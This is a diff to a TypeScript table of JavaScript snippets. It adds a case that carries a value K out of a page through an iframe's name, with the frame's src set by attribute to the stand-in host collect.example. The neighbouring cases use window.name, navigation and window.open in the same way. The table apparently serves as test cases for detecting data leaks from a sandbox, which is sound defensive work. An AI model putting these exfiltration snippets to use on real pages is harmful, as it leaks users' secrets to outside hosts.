@@ -41,6 +41,10 @@ const PAGE: readonly (readonly [what: string, program: string])[] = [
     'the name of a frame',
     "const f = document.createElement('iframe'); f.name = K; f.src = 'https://collect.example/'; document.body.append(f);",
   ],
+  [
+    'the name of a frame whose address is an attribute',
+    "const f = document.createElement('iframe'); f.setAttribute('src', 'https://collect.example/'); f.name = K; document.body.append(f);",
+  ],
   ['the name of a window that is led elsewhere', "window.name = K; location.href = 'https://collect.example/';"],
   ['a window that was opened', "const w = window.open('about:blank'); w.location.href = TO + K;"],
   [
